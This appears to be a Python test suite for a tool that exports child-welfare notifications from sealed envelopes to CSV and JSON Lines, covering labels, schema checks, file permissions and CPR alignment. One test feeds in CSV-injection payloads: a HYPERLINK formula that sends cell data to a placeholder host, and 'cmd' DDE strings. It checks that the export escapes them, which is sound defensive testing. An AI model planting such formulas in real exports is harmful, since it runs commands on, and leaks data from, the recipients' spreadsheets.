"""``underret-intake export``: notifications for the case system as CSV and JSON Lines, safely written.

Real key files from ``keygen``, real sealed envelopes carrying the shipped example documents
(schema v2, and v1 as Underret wrote them before), the real command line and real files. Runs in
the intake's own venv too (scripts/check_intake.sh): nothing here imports the desktop app.
"""

from __future__ import annotations

import csv
import json
import os
import stat
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import jsonschema
import pytest

from intake import cli, keys
from protocol.envelope import seal

if TYPE_CHECKING:
    from tests.intake.conftest import RunningIntake

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = sorted((ROOT / "forms" / "schema" / "examples").glob("notification-*.json"))
SCHEMA = json.loads((ROOT / "forms" / "schema" / "notification.schema.json").read_text("utf-8"))
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(200))  # stands for a cleaned attachment: carried byte for byte


@dataclass
class Desk:
    """A caseworker's folder of envelopes saved from secure e-mail, and the municipality's key."""

    key: Path
    envelopes: list[Path]
    sealed: dict[str, dict[str, bytes]]  # notification id -> files

    def export(self, out: Path, *more: str) -> int:
        argv = ["export", "--key", str(self.key), "--out", str(out), *more]
        for envelope in self.envelopes:
            argv += ["--file", str(envelope)]
        return cli.main(argv)


def _files(example: Path, with_attachment: bool) -> dict[str, bytes]:
    files = {"notification.json": example.read_bytes(),
             "notification.pdf": b"%PDF-1.7 " + example.name.encode()}
    if with_attachment:
        files["attachment-1.png"] = PNG
    return files


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    key_files = keys.generate(tmp_path / "keys", "kommune-2026")
    recipient = keys.load_recipient_private(key_files.recipient_private).public()
    folder = tmp_path / "desk"
    folder.mkdir()
    envelopes, sealed = [], {}
    for number, example in enumerate(EXAMPLES):
        nid = json.loads(example.read_bytes())["notification_id"]
        files = _files(example, with_attachment=number == 0)
        path = folder / f"underretning-{number}.underret"
        path.write_bytes(seal(notification_id=nid, form_version="2.0.0", files=files, recipients=[recipient],
                              sender_seed=os.urandom(32)))
        envelopes.append(path)
        sealed[nid] = files
    return Desk(key_files.recipient_private, envelopes, sealed)


def test_the_csv_has_one_row_per_notification_with_codes_beside_their_danish_words(
        desk: Desk, tmp_path: Path) -> None:
    out = tmp_path / "case-system"
    assert desk.export(out) == 0
    with (out / "notifications.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(EXAMPLES) == len(desk.sealed)
    assert {row["notification_id"] for row in rows} == set(desk.sealed)
    by_id = {row["notification_id"]: row for row in rows}
    v2 = by_id["0f8e3c1a-5b7d-4e29-9a61-3c2b1d0e4f57"]  # the child with a CPR number, schema v2
    assert (v2["frequency"], v2["frequency_label"]) == ("several", "Et par gange")
    assert (v2["sources"], v2["sources_label"]) == ("seen; child_told",
                                                    "Jeg har selv set det; Barnet har fortalt det")
    assert (v2["grounds"], v2["grounds_label"]) == (
        "special_support; abuse",
        "Barnet kan have brug for særlig støtte; Barnet kan have været udsat for overgreb")
    assert (v2["worry_level"], v2["worry_level_label"]) == ("red", "Rød: trivslen er alvorligt udfordret")
    assert (v2["signals"], v2["signals_label"]) == (
        "neglect.hunger; violence.child_tells",
        "Barnet er ofte sultent; Barnet fortæller, at det bliver slået")
    assert (v2["municipality_code"], v2["municipality_label"]) == ("999", "Demo Kommune")
    assert v2["child_cpr"] == "150317-4001" and v2["parent_cprs"] == "010190-4002"
    assert v2["upgraded_from"] == ""
    unborn = by_id["5d2c8e71-0a4f-4b3e-9c6d-7e1f2a3b4c5d"]
    assert unborn["mother_cpr"] == "010190-4002" and unborn["grounds"].startswith("unborn_child")
    old = by_id["3f2a9c1b-5d4e-4f60-8a7b-9c0d1e2f3a4b"]  # written under schema v1: labels became codes
    assert old["upgraded_from"] == "1"
    assert (old["frequency"], old["frequency_label"]) == ("several", "Et par gange")
    assert old["child_cpr"] == "150317-4001"


def test_every_json_line_is_a_schema_v2_document_and_the_files_lie_beside_them_byte_for_byte(
        desk: Desk, tmp_path: Path) -> None:
    out = tmp_path / "case-system"
    assert desk.export(out) == 0
    lines = (out / "notifications.jsonl").read_text("utf-8").splitlines()
    assert len(lines) == len(EXAMPLES)
    validator = jsonschema.Draft202012Validator(SCHEMA, format_checker=jsonschema.FormatChecker())
    for line in lines:
        document = json.loads(line)
        validator.validate(document)
        files = desk.sealed[document["notification_id"]]
        folder = out / document["notification_id"]
        assert (folder / "notification.pdf").read_bytes() == files["notification.pdf"]
        carried = sorted(n for n in files if n != "notification.json")
        assert sorted(p.name for p in folder.iterdir()) == carried
    with (out / "notifications.csv").open(encoding="utf-8-sig", newline="") as handle:
        named = [name for row in csv.DictReader(handle) for name in row["files"].split("; ")]
    assert (out / next(n for n in named if n.endswith("attachment-1.png"))).read_bytes() == PNG
    # Owner-only, like decrypt: the folder 0700, every file 0600.
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    for path in out.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path


def test_export_reads_the_intake_s_database_too(running_intake: RunningIntake, tmp_path: Path) -> None:
    example = next(p for p in EXAMPLES if p.name == "notification-v2-unborn.json")
    nid = json.loads(example.read_bytes())["notification_id"]
    recipient = keys.load_recipient_private(running_intake.key_files.recipient_private).public()
    body = seal(notification_id=nid, form_version="2.0.0", files=_files(example, False),
                recipients=[recipient], sender_seed=os.urandom(32))
    assert running_intake.client.post("/v1/envelopes", content=body,
                                      headers={"Idempotency-Key": nid}).status_code == 201
    out = tmp_path / "case-system"
    assert cli.main(["export", "--db", str(running_intake.db), "--key",
                     str(running_intake.key_files.recipient_private), "--out", str(out)]) == 0
    with (out / "notifications.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["notification_id"] == nid and row["mother_cpr"] == "010190-4002"


def test_a_folder_that_is_not_empty_or_a_link_is_refused_and_left_as_it_was(
        desk: Desk, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    taken = tmp_path / "taken"
    taken.mkdir()
    (taken / "notes.txt").write_text("a caseworker's own notes")
    assert desk.export(taken) == 2
    assert "export.out_not_empty" in capsys.readouterr().err
    assert [p.name for p in taken.iterdir()] == ["notes.txt"]
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = tmp_path / "link"
    link.symlink_to(elsewhere)
    assert desk.export(link) == 2
    assert "export.out_not_a_folder" in capsys.readouterr().err
    assert list(elsewhere.iterdir()) == []


def test_a_notification_that_is_not_schema_v2_stops_the_export_before_anything_is_written(
        desk: Desk, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    key = keys.load_recipient_private(desk.key).public()
    bad = json.loads(EXAMPLES[-1].read_bytes())
    bad["child"]["cpr"] = "abc"  # what schema v2 refuses
    nid = str(uuid.uuid4())
    bad["notification_id"] = nid
    path = tmp_path / "desk" / "underretning-bad.underret"
    path.write_bytes(seal(notification_id=nid, form_version="2.0.0",
                          files={"notification.json": json.dumps(bad).encode(), "notification.pdf": b"%PDF"},
                          recipients=[key], sender_seed=os.urandom(32)))
    desk.envelopes.append(path)
    out = tmp_path / "case-system"
    assert desk.export(out) == 1
    err = capsys.readouterr().err
    assert "export.not_schema_v2" in err and "child/cpr" in err and "abc" not in err
    assert not out.exists() or list(out.iterdir()) == []


def test_a_parent_s_cpr_number_stays_beside_that_parent_s_name_in_the_csv() -> None:
    # Found checking issue 14 from outside: the CPR columns left out parents without a number, so with
    # the first parent's number unknown the second parent's number stood first - beside the first
    # parent's name. A case system matching by position would file it under the wrong person.
    from protocol.codes import code_lists
    from protocol.export import csv_row

    document = json.loads((ROOT / "forms" / "schema" / "examples" / "notification-v2-cpr.json").read_bytes())
    document["custody_holders"] = [dict(document["custody_holders"][0], name="Karin Hansen", cpr=None),
                                   dict(document["custody_holders"][0], name="Ole Hansen", cpr="020285-4005")]
    document["siblings"] = [{"name": "Oskar", "birth_date": None, "cpr": None, "notes": None},
                            {"name": "Ida", "birth_date": None, "cpr": "010120-4000", "notes": None}]
    row = csv_row(document, [], code_lists(), {})
    assert row["parent_names"].split("; ") == ["Karin Hansen", "Ole Hansen"]
    assert row["parent_cprs"].split("; ") == ["", "020285-4005"]
    assert row["sibling_names"].split("; ") == ["Oskar", "Ida"]
    assert row["sibling_cprs"].split("; ") == ["", "010120-4000"]
    # No CPR number for anyone: the column is empty, not a row of separators.
    document["custody_holders"] = [dict(h, cpr=None) for h in document["custody_holders"]]
    assert csv_row(document, [], code_lists(), {})["parent_cprs"] == ""


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(desk: Desk, tmp_path: Path) -> None:
    # A notifier's free text reaches the caseworker's spreadsheet: "=HYPERLINK(...)" or "+cmd|..." opened by
    # double-click would run (CSV injection). Such a cell starts with an apostrophe, which spreadsheets show
    # as text; a phone number or a date beginning with + or - stays as it is, and JSON Lines keep every text.
    key = keys.load_recipient_private(desk.key).public()
    document = json.loads((ROOT / "forms" / "schema" / "examples" / "notification-v2-cpr.json").read_bytes())
    nid = str(uuid.uuid4())
    document["notification_id"] = nid
    document["concern"]["observations"] = '=HYPERLINK("http://example.invalid/?"&A1,"Se billedet")'
    document["notifier"]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    document["notifier"]["workplace"] = "-2+3+cmd|' /C calc'!A0"
    document["notifier"]["phone"] = "+45 12 34 56 78"
    path = tmp_path / "desk" / "underretning-formula.underret"
    files = {"notification.json": json.dumps(document).encode(), "notification.pdf": b"%PDF"}
    path.write_bytes(seal(notification_id=nid, form_version="2.0.0", files=files, recipients=[key],
                          sender_seed=os.urandom(32)))
    desk.envelopes = [path]
    out = tmp_path / "case-system"
    assert desk.export(out) == 0
    with (out / "notifications.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["observations"] == "'" + document["concern"]["observations"]
    assert row["notifier_name"] == "'" + document["notifier"]["name"]
    assert row["notifier_workplace"] == "'" + document["notifier"]["workplace"]
    assert row["notifier_phone"] == "+45 12 34 56 78"
    assert not any(value.startswith(("=", "@")) or (value.startswith(("+", "-")) and not _plain_number(value))
                   for value in row.values())
    (line,) = (out / "notifications.jsonl").read_text("utf-8").splitlines()
    assert json.loads(line)["concern"]["observations"] == document["concern"]["observations"]


def _plain_number(value: str) -> bool:
    return all(ch.isdigit() or ch in " +-()/.:" for ch in value)


def test_the_csv_words_a_sign_for_the_child_s_age_as_the_copy_does() -> None:
    # The pack words some signs per age band (label_by_age): the case system reads what the PDF says,
    # »Barnet …« about a 9-year-old, »Den unge …« about a 15-year-old.
    from protocol.codes import code_lists
    from protocol.export import csv_row, shipped_pack_words

    document = json.loads((ROOT / "forms" / "schema" / "examples" / "notification-v2-cpr.json").read_bytes())
    document["pack"] = dict(document["pack"], id="demo-kommune")
    document["concern"] = dict(document["concern"], signals=[
        {"id": "risk.drugs_alcohol", "category_id": "risk_behaviour", "acute": False},
        {"id": "neglect.hunger", "category_id": "neglect", "acute": False}])
    words = shipped_pack_words()
    for band, label in [("6-12", "Barnet bruger alkohol eller stoffer"),
                        ("13-17", "Den unge bruger alkohol eller stoffer")]:
        document["child"] = dict(document["child"], age_band=band)
        row = csv_row(document, [], code_lists(), words)
        assert row["signals_label"] == f"{label}; Barnet er ofte sultent"
